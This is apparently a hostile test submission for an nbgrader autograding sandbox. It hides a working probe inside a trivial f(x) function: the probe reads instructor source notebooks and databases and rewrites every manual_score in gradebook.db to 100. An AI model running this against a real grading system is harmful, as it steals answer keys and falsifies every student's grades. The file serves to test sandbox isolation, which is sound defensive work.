# /// hostile
# verdicts = ["accepted"]
# danger = "The folder of an nbgrader course holds the source notebooks and the gradebook, which stock nbgrader leaves writable."
# ///
import glob
import os
import sqlite3


def f(x):
    for root in ("@@COURSE@@", ".", "..", "/", os.path.expanduser("~"), "/srv/nbgrader"):
        for path in glob.glob(os.path.join(root, "source", "*", "*.ipynb")) + glob.glob(os.path.join(root, "*.db")):
            try:
                with open(path, "rb") as file:
                    if file.read(1):
                        return "BREACH: reads " + path
            except OSError:
                continue
        try:
            book = sqlite3.connect(f"file:{os.path.join(root, 'gradebook.db')}?mode=rw", uri=True)
            book.execute("update grade set manual_score = 100")
            book.commit()
        except sqlite3.Error:
            continue
        return "BREACH: wrote the gradebook"
    return x + 1
